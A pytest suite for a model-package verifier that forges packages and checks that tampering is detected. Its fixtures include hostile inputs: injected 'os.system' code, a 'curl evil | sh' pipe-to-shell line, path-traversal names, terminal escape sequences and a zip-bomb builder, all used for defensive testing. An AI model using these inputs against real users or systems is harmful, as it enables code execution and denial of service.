"""What `verify` finds in packages that somebody forged: everything is sealed anew after the change,
so that manifest and sums agree with what is there.
"""

from __future__ import annotations

import io
import json
import os
import re
import resource
import shutil
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from click.testing import CliRunner
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, PrivateFormat

from edgeq import models
from edgeq.cli import cli
from edgeq.errors import DamagedPackageError, PackageError, UnjudgedPackageError
from edgeq.packaging.assembly.build import Package, make_package
from edgeq.packaging.container import signing, writing
from edgeq.packaging.container.archive import read_zip, write_zip
from edgeq.packaging.container.manifest import KEY, MANIFEST, OUTSIDE, SIGNATURE, SUMS, list_files
from edgeq.packaging.verification.checks import Check
from edgeq.packaging.verification.verify import Verification, verify_package
from tests.packaging.conftest import LABELS, verify_here

Edit = Callable[[dict[str, Any]], object]
GOLDEN = "golden/golden.json"
WHEEL = "fashion-1.4.0-py3-none-any.whl"
CONVERT = "records/00-convert.json"
DATA = models.path("fashion_mnist_test.npz")


def dump(plain: object) -> bytes:
    text = json.dumps(plain, indent=1, ensure_ascii=False, sort_keys=True)
    return (text + "\n").encode()


def sealed(files: Mapping[str, bytes], edit: Edit = lambda manifest: None) -> dict[str, bytes]:
    """The same with a manifest and sums that fit, whatever is in it."""
    inside = {path: content for path, content in files.items() if path not in OUTSIDE}
    manifest = json.loads(files[MANIFEST])
    manifest["files"] = {path: list(entry) for path, entry in list_files(inside).items()}
    edit(manifest)
    whole = {**inside, MANIFEST: dump(manifest)}
    lines = [f"{digest}  {path}\n" for path, (digest, _) in list_files(whole).items()]
    return {**whole, SUMS: "".join(lines).encode()}


def with_golden(package: Package, edit: Edit) -> dict[str, bytes]:
    """With another index of golden vectors, in its own order of keys."""
    index = json.loads(package.files[GOLDEN])
    edit(index)
    text = json.dumps(index, indent=1, ensure_ascii=False)
    return sealed({**package.files, GOLDEN: (text + "\n").encode()})


def verify(files: Mapping[str, bytes], folder: Path, **given: Any) -> Verification:
    path = folder / "package"
    writing.write_package(files, path)
    return verify_package(path, **{"runs": False, **given}) if given else verify_here(path)


def find(result: Verification, name: str) -> Check:
    return next(check for check in result.checks if check.name == name)


def test_sealing_anew_changes_nothing(package: Package) -> None:
    assert sealed(package.files) == package.files


# ---------------------------------------------------------------- the manifest


@pytest.mark.parametrize(
    ("keys", "value", "words"),
    [
        (("contract",), {}, "missing required field `name` - at `$.contract`"),
        (("contract", "model"), [], "Expected `object`, got `array` - at `$.contract.model`"),
        (("contract", "model", "path"), "/tmp/x.tflite", "'/tmp/x.tflite' is not a file name"),
        (("contract", "model", "path"), "../x.tflite", "'../x.tflite' is not a file name"),
        (("contract", "model", "path"), "a/b/c", "'a/b/c' is not a file name"),
        (("contract", "model", "path"), "n\0", r"'n\x00' is not a file name"),
        (("contract", "model", "path"), "", "not a file name"),
        (("contract", "model", "path"), "..", "not a file name"),
        (("contract", "model", "size_bytes"), -1, "Expected `int` >= 1"),
        (("contract", "outputs"), None, "Expected `array`, got `null`"),
        (("contract", "outputs", 0, "spec", "scales"), [], "scales and zero points must be equal"),
        (("preprocess",), [3], "Expected `str`, got `int` - at `$.preprocess[0]`"),
        (("edgeq",), "\x1b[2J", "Expected `str` matching regex"),
        (("target",), None, "Expected `str`, got `null` - at `$.target`"),
        (("measured_sha256",), "", "Expected `str` matching regex"),
        (("records",), ["records/99.json"], "records must name the files in records/"),
        (("records",), ["sbom.cdx.json"], "records must name the files in records/"),
        (("records",), [], "records must name the files in records/"),
        (("gate",), [], "Expected `object`, got `array` - at `$.gate`"),
        (("gate", "word"), "splendid", "Expected `str` matching regex"),
        (("files", "../x"), ["0" * 64, 1], "leads out of its folder"),
        (("files", SUMS), ["0" * 64, 1], "cannot be among the files that it is about"),
        (("files", "x"), [1], "`$.files[...]"),
        (("files", "x"), ["0" * 64, -1], "Expected `int` >= 0"),
    ],
)
def test_a_manifest_that_edgeq_could_not_write_is_refused(
    package: Package, tmp_path: Path, keys: tuple[Any, ...], value: Any, words: str
) -> None:
    def edit(manifest: Any) -> None:
        *path, last = keys
        for key in path:
            manifest = manifest[key]
        manifest[last] = value

    with pytest.raises(DamagedPackageError) as caught:
        verify(sealed(package.files, edit), tmp_path)
    assert words in caught.value.message and caught.value.exit_code == 3


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"", "JSON is malformed|Input data was truncated"),
        (b"[" * 100_000, "Expected `object`, got `array`"),
        (b'{"schema": "edgeq.package/1", "x": ' + b"[" * 100_000, "maximum recursion depth"),
        (b'{"schema": "\xff"}', "(?i)utf-8"),
        (b'{"schema": 1}', "Expected `str`"),
    ],
)
def test_a_manifest_that_is_no_json_is_refused(
    package: Package, tmp_path: Path, content: bytes, words: str
) -> None:
    with pytest.raises(DamagedPackageError, match=words):
        verify({**package.files, MANIFEST: content}, tmp_path)


@pytest.mark.parametrize(
    ("check", "edit", "words"),
    [
        ("contract", lambda m: m.update(name="other"), "name in the manifest differs"),
        ("contract", lambda m: m.update(version="\x1b[2J"), "is not a version"),
        ("contract", lambda m: m.update(preprocess=["bogus"]), "unknown preset 'bogus'"),
        ("contract", lambda m: m["contract"].update(operators=[]), "operators in the manifest"),
        ("contract", lambda m: m["contract"]["outputs"][0]["labels"].reverse(),
         "the labels in the manifest are not those of labels.txt in the model"),
        ("contract", lambda m: m["contract"]["outputs"][0].update(labels=[]),
         "the labels in the manifest are not those of labels.txt in the model"),
        ("contract", lambda m: m["contract"]["inputs"][0]["spec"].update(scales=[1.5]),
         "inputs in the manifest differs from the model's"),
        ("measured", lambda m: m.update(measured_sha256="0" * 64), "is not the measured one"),
        ("code", lambda m: m.update(license="MIT"), "sbom.cdx.json is not what edgeq"),
        ("code", lambda m: m.update(description="fine"), "MODEL_CARD.md is not what edgeq"),
        ("code", lambda m: m.update(surprise=1), "manifest.json is not what edgeq"),
    ],
)  # fmt: skip
def test_a_manifest_that_says_something_else_fails(
    package: Package, tmp_path: Path, check: str, edit: Edit, words: str
) -> None:
    result = verify(sealed(package.files, edit), tmp_path)
    assert result.verdict == "fail"
    found = find(result, check)
    assert found.verdict == "fail" and any(words in line for line in found.detail), found.detail


# ---------------------------------------------------------------- golden vectors


def _no_outputs(index: dict[str, Any]) -> None:
    for vector in index["vectors"]:
        vector["outputs"] = {}


@pytest.mark.parametrize(
    ("edit", "words"),
    [
        (lambda i: i.update(vectors=[]), "length >= 1"),
        (lambda i: i.pop("vectors"), "missing required field `vectors`"),
        (lambda i: i.pop("tolerances"), "missing required field `tolerances`"),
        (lambda i: i.update(schema="edgeq.golden/9"), "matching regex"),
        (lambda i: i.update(tolerances={}), "tolerances are for nothing, not for 'class'"),
        (lambda i: i.update(tolerances={"class": 255}), "would accept almost anything"),
        (lambda i: i.update(tolerances={"class": float("inf")}), "JSON is malformed"),
        (lambda i: i.update(tolerances={"class": float("nan")}), "JSON is malformed"),
        (lambda i: i.update(tolerances={"class": -1}), "Expected `float` >= 0"),
        (_no_outputs, "outputs are for nothing, but the model has 'class'"),
        (lambda i: i["vectors"][0].pop("inputs"), "missing required field `inputs`"),
        (lambda i: i["vectors"][0].update(raw={}), "raw are for nothing"),
        (lambda i: i["vectors"][0].update(real={}), "real are for nothing"),
        (lambda i: i["vectors"][0]["inputs"]["image"].update(shape=[1, 28, 28]),
         "is int8 1x28x28, not int8 1x28x28x1"),
        (lambda i: i["vectors"][0]["inputs"]["image"].update(shape=[1, -28, 28, 1]), ">= 0"),
        (lambda i: i["vectors"][0]["inputs"]["image"].update(shape=[7]), "784 bytes|7 bytes"),
        (lambda i: i["vectors"][0]["inputs"]["image"].update(dtype="object"), "matching regex"),
        (lambda i: i["vectors"][0]["inputs"]["image"].update(file="../manifest.json"),
         "does not have the 784 bytes"),
        (lambda i: i["vectors"][0].update(index={}), "Expected `int`, got `object`"),
    ],
)  # fmt: skip
def test_golden_vectors_that_prove_nothing_fail(
    package: Package, tmp_path: Path, edit: Edit, words: str
) -> None:
    result = verify(with_golden(package, edit), tmp_path)
    found = find(result, "vectors")
    assert found.verdict == "fail"
    assert any(re.search(words, line) or words in line for line in found.detail), found.detail
    assert find(result, "the rest").verdict == "skipped"


@pytest.mark.parametrize("content", [b"[]", b"[" * 100_000, b'{"x": ' + b"[" * 100_000, b"\xff"])
def test_golden_vectors_that_are_no_json_fail(
    package: Package, tmp_path: Path, content: bytes
) -> None:
    result = verify(sealed({**package.files, GOLDEN: content}), tmp_path)
    assert find(result, "vectors").detail[0].startswith(f"{GOLDEN} is damaged: ")


def test_real_values_are_held_against_the_integers(package: Package, tmp_path: Path) -> None:
    files = sealed({**package.files, "golden/00-real-0.bin": bytes(40)})
    found = find(verify(files, tmp_path), "vectors")
    assert "'class' in real units differs from the dequantized output" in found.detail[0]


# ---------------------------------------------------------------- code


@pytest.mark.parametrize(
    ("path", "content"),
    [
        ("fashion/__init__.py", b'import os; os.system("id")\n'),
        ("fashion/labels.json", b'{"class": []}\n'),
        ("fashion/more.py", b""),
        ("README.md", b"curl evil | sh\n"),
    ],
)
def test_code_that_edgeq_does_not_make_of_the_model_is_named(
    package: Package, tmp_path: Path, path: str, content: bytes
) -> None:
    found = find(verify(sealed({**package.files, path: content}), tmp_path), "code")
    assert found.verdict == "fail"
    assert [line.split(" is not what edgeq ")[0] for line in found.detail] == [path]


def test_code_inside_a_wheel_is_named(package: Package, tmp_path: Path) -> None:
    inside = read_zip(package.files[WHEEL], WHEEL)
    runner = inside["fashion/runner.py"].replace(b"-128", b"-127")
    assert runner != inside["fashion/runner.py"]
    wheel = write_zip({**inside, "fashion/runner.py": runner})
    found = find(verify(sealed({**package.files, WHEEL: wheel}), tmp_path), "code")
    assert f"{WHEEL}!fashion/runner.py is not what edgeq" in found.detail[0]


def test_another_model_in_a_corner_is_found(package: Package, tmp_path: Path) -> None:
    inside = read_zip(package.files[WHEEL], WHEEL)
    for path, content in (
        ("fashion/extra.tflite", b"junk"),
        ("x/MODEL.TFLITE", b"junk"),
        (WHEEL, write_zip({**inside, "fashion/extra.tflite": b"junk"})),
    ):
        found = find(verify(sealed({**package.files, path: content}), tmp_path), "model")
        assert found.verdict == "fail" and "is not the manifest's model: " in found.detail[0]


def test_code_of_another_edgeq_is_not_judged_and_the_end_says_so(
    package: Package, tmp_path: Path
) -> None:
    result = verify(sealed(package.files, lambda m: m.update(edgeq="0.0.1")), tmp_path)
    found = find(result, "code")
    assert found.verdict == "skipped" and found.detail[0].startswith(
        "made by edgeq 0.0.1; this is "
    )
    assert "it is unsigned, so anybody can have made it. Skipped: gate, code, golden vectors." \
        in result.conclusion  # fmt: skip


def test_classes_of_another_jdk_are_not_judged(int8_mobilenet: Path, tmp_path: Path) -> None:
    if shutil.which("javac") is None:
        pytest.skip("needs javac (Debian: default-jdk-headless)")
    made = make_package(int8_mobilenet, "android", data=DATA, name="fashion", vectors=1)
    (name,) = [path for path in made.files if path.endswith(".aar")]
    aar = read_zip(made.files[name], name)
    jar = read_zip(aar["classes.jar"], "classes.jar")

    def changed(entries: Mapping[str, bytes]) -> Check:
        content = write_zip({**aar, "classes.jar": write_zip({**jar, **entries})},
                            stored=["assets/fashion.tflite"])  # fmt: skip
        return find(verify(sealed({**made.files, name: content}), tmp_path), "code")

    assert changed({}).verdict == "pass"
    path = next(path for path in jar if path.endswith(".class"))
    forged = changed({path: b"forged"})
    assert forged.verdict == "fail" and f"{name}!classes.jar!{path} is not" in forged.detail[0]
    manifest = re.sub(rb"Build-Jdk-Spec: \d+", b"Build-Jdk-Spec: 7", jar["META-INF/MANIFEST.MF"])
    other = changed({"META-INF/MANIFEST.MF": manifest})
    assert other.verdict == "skipped"
    assert f"{name}!classes.jar: made with JDK 7, and JDK" in other.detail[1]


def test_what_has_the_shape_of_an_image_and_is_none_is_sound(
    int8_mobilenet: Path, tmp_path: Path
) -> None:
    """As a spectrogram: its samples are no pixels, so its metadata have no image either."""
    noise = {"x": np.random.default_rng(0).uniform(0, 255, (6, 28, 28, 1)).astype(np.float32)}
    made = make_package(int8_mobilenet, "python", data=noise, labels={"": LABELS}, vectors=2)
    assert find(verify(made.files, tmp_path), "code").verdict == "pass"


def test_an_arena_of_another_tflite_micro_is_not_judged(
    int8_mobilenet: Path, tmp_path: Path, request: pytest.FixtureRequest
) -> None:
    request.getfixturevalue("tflite_micro")
    made = make_package(int8_mobilenet, "c", data=DATA, name="fashion", vectors=1)
    # Its sources have no releases, so a release of TensorFlow Lite would say nothing.
    runtime = b"| runtime | TensorFlow Lite for Microcontrollers |"
    assert runtime in made.files["MODEL_CARD.md"]
    assert b"oldest_tensorflow_lite" not in made.files["sbom.cdx.json"]
    assert find(verify(made.files, tmp_path), "code").verdict == "skipped"  # runs nothing
    assert find(verify(made.files, tmp_path, runs=True), "code").verdict == "pass"
    older = {
        path: re.sub(rb"tflite-micro \d[\w.+-]*", b"tflite-micro 0.1", content)
        for path, content in made.files.items()
        if path.startswith("src/")
    }
    found = find(verify(sealed({**made.files, **older}), tmp_path, runs=True), "code")
    assert found.verdict == "skipped" and "made with tflite-micro 0.1" in found.detail[1]
    forged = made.files["src/edgeq_fashion_package.cc"] + b"// x\n"
    files = sealed({**made.files, "src/edgeq_fashion_package.cc": forged})
    assert find(verify(files, tmp_path, runs=True), "code").verdict == "fail"


# ---------------------------------------------------------------- records and gates


def test_without_a_record_nothing_was_measured(int8_mobilenet: Path, tmp_path: Path) -> None:
    model = tmp_path / "m.tflite"
    model.write_bytes(int8_mobilenet.read_bytes())
    made = make_package(model, "python", data=DATA, labels={"": LABELS}, vectors=1)
    result = verify(made.files, tmp_path)
    assert find(result, "measured").verdict == "skipped"
    assert result.is_sound and "Skipped: measured, gate" in result.conclusion


def test_a_record_of_another_model_is_named(package: Package, tmp_path: Path) -> None:
    other = json.loads(package.files[CONVERT])
    other["model"]["file"]["sha256"] = "0" * 64
    result = verify(sealed({**package.files, CONVERT: dump(other)}), tmp_path)
    assert result.verdict == "fail"
    assert find(result, "measured") == Check(
        "measured", "fail", (f"{CONVERT} is about another model",)
    )


def test_one_record_of_another_model_among_good_ones_is_named(
    package: Package, tmp_path: Path
) -> None:
    other, second = json.loads(package.files[CONVERT]), "records/01-convert.json"
    other["model"]["file"]["sha256"] = "0" * 64
    for first, last in (
        (package.files[CONVERT], dump(other)),
        (dump(other), package.files[CONVERT]),
    ):
        both = {**package.files, CONVERT: first, second: last}
        files = sealed(both, lambda manifest: manifest.update(records=[CONVERT, second]))
        found = find(verify(files, tmp_path), "measured")
        wrong = second if first == package.files[CONVERT] else CONVERT
        assert (found.verdict, found.detail) == ("fail", (f"{wrong} is about another model",))


def test_a_record_that_nests_too_deep_fails(package: Package, tmp_path: Path) -> None:
    content = b'{"schema": "edgeq.record/1", "kind": "convert", "x": ' + b"[" * 100_000
    result = verify(sealed({**package.files, CONVERT: content}), tmp_path)
    assert "is not an edgeq record: it is not JSON" in find(result, "measured").detail[0]


@pytest.mark.parametrize("limit", ["1 MB", "1 kB"])
def test_a_gate_is_believed_of_a_signer_only(
    int8_mobilenet: Path, tmp_path: Path, limit: str
) -> None:
    policy, record = tmp_path / "edgeq.toml", tmp_path / "gate.json"
    policy.write_text(f"[policy]\nmax_size = '{limit}'\n")
    CliRunner().invoke(
        cli, ["gate", f"{int8_mobilenet}.json", "--policy", str(policy), "-o", str(record)]
    )
    plain = json.loads(record.read_text())
    passes = plain["verdict"] == "pass"
    record.write_text(json.dumps({**plain, "verdict": "pass"}))
    key = Ed25519PrivateKey.generate()
    private, public = tmp_path / "key.pem", tmp_path / "key.pub.pem"
    private.write_bytes(key.private_bytes(Encoding.PEM, PrivateFormat.PKCS8, NoEncryption()))
    public.write_bytes(signing.public_pem(key))
    made = make_package(int8_mobilenet, "python", data=DATA, records=[record], vectors=1,
                        is_forced=True, key=private)  # fmt: skip
    found = find(verify(made.files, tmp_path), "gate")
    if passes:
        assert found.verdict == "skipped"
        assert (
            "as its record says; only a signature proves it, with --public-key" in found.detail[0]
        )
        result = verify(made.files, tmp_path, public_key=public)
        assert find(result, "gate").verdict == "pass"
        assert result.conclusion.endswith("is what was measured. Skipped: golden vectors.")
    else:
        assert found.verdict == "fail"
        assert "says pass, but its own findings say fail" in found.detail[0]


# ---------------------------------------------------------------- folders, archives, signatures


def test_a_name_out_of_a_package_writes_nothing(package: Package, tmp_path: Path) -> None:
    victim = tmp_path / "victim"
    files = sealed(package.files, lambda m: m["contract"]["model"].update(path=str(victim)))
    with pytest.raises(DamagedPackageError):
        verify(files, tmp_path)
    assert not victim.exists()


def test_what_has_a_wrong_signature_is_not_looked_into(package: Package, tmp_path: Path) -> None:
    for extra, words in (
        ({KEY: b"junk"}, f"{KEY} is inside, but no {SIGNATURE}: the signature was removed"),
        ({SIGNATURE: b"junk"}, f"{KEY} is not a public key in PEM."),
        ({KEY: b"junk", SIGNATURE: bytes(64)}, f"{KEY} is not a public key in PEM."),
    ):
        result = verify({**package.files, **extra}, tmp_path)
        assert find(result, "signature").detail == (words,)
        assert [check.name for check in result.checks] == ["files", "signature", "the rest"]


def test_pipes_and_empty_folders_do_not_belong(package: Package, tmp_path: Path) -> None:
    path = tmp_path / "package"
    writing.write_package(package.files, path)
    (path / "empty").mkdir()
    found = find(verify_package(path, runs=False), "files")
    assert found.detail == ("empty/, an empty folder, does not belong to the package.",)
    os.mkfifo(path / "empty" / "pipe")
    with pytest.raises(DamagedPackageError, match="'empty/pipe', which is neither a file"):
        verify_package(path)
    with pytest.raises(UnjudgedPackageError, match="is neither a file nor a folder"):
        verify_package(path / "empty" / "pipe")


@pytest.mark.parametrize("is_listed", [True, False])
def test_what_inflates_beyond_reason_is_not_inflated(
    package: Package, tmp_path: Path, is_listed: bool
) -> None:
    """A gigabyte of zeros in one megabyte."""
    size = 1 << 30
    files = sealed(
        package.files,
        lambda m: m["files"].update({"golden/big": ["0" * 64, size]}) if is_listed else None,
    )
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        with archive.open("golden/big", "w") as stream:
            for _ in range(size >> 24):
                stream.write(bytes(1 << 24))
        for name, content in files.items():
            archive.writestr(name, content)
    path = tmp_path / "bomb.zip"
    path.write_bytes(target.getvalue())
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(DamagedPackageError, match="more than any package of its size has"):
        verify_package(path)
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 64 << 10


def test_what_is_larger_than_the_manifest_says_is_not_inflated(
    package: Package, tmp_path: Path
) -> None:
    path = tmp_path / "p.zip"
    path.write_bytes(write_zip({**package.files, "README.md": bytes(100 << 20)}))
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    found = find(verify_package(path, runs=False), "files")
    assert "README.md was changed: it has 104,857,600 bytes, not " in found.detail[-1]
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 64 << 10


def test_a_file_of_terabytes_is_not_read(tmp_path: Path) -> None:
    path = tmp_path / "p.zip"
    with path.open("wb") as stream:
        stream.truncate(1 << 40)  # sparse
    with pytest.raises(DamagedPackageError, match="is larger than any package"):
        verify_package(path)


# ---------------------------------------------------------------- exit statuses


def run(*arguments: object) -> tuple[int, str]:
    done = CliRunner().invoke(cli, [*map(str, arguments)], standalone_mode=False)
    if isinstance(done.exception, PackageError):
        return done.exception.exit_code, done.exception.message
    assert done.exception is None
    return done.return_value, " ".join(done.stdout.split())


def test_exit_statuses(package: Package, tmp_path: Path) -> None:
    path, zipped = tmp_path / "package", tmp_path / "p.zip"
    writing.write_package(package.files, path)
    assert run("verify", path, "--no-run")[0] == 0
    status, text = run("verify", path, "--device", "ssh://nobody@127.0.0.1:9")
    assert status == 4 and "CANNOT TELL golden vectors on ssh://nobody@127.0.0.1:9" in text
    assert f"CANNOT TELL: nothing failed in {path}, but not judged: golden vectors on" in text
    assert run("verify", tmp_path / "nothing")[0] == 4
    assert run("verify", path / "README.md")[0] == 3
    content = bytearray(write_zip(package.files))
    content[len(content) // 2] ^= 1
    zipped.write_bytes(bytes(content))
    assert run("verify", zipped, "--no-run")[0] == 3
    zipped.write_bytes(bytes(content)[:-7])
    assert run("verify", zipped, "--no-run")[0] == 3
    (path / MANIFEST).write_bytes(b"{")
    assert run("verify", path)[0] == 3
    newer = package.files[MANIFEST].replace(b"edgeq.package/1", b"edgeq.package/9")
    (path / MANIFEST).write_bytes(newer)
    assert run("verify", path)[0] == 4


def test_names_in_a_package_do_not_steer_the_terminal(package: Package, tmp_path: Path) -> None:
    path = tmp_path / "package"
    files = sealed(package.files, lambda m: m.update(version="\x1b[2J"))
    writing.write_package(files, path)
    status, text = run("verify", path, "--no-run")
    assert status == 3 and "\x1b" not in text and "\\x1b[2J" in text
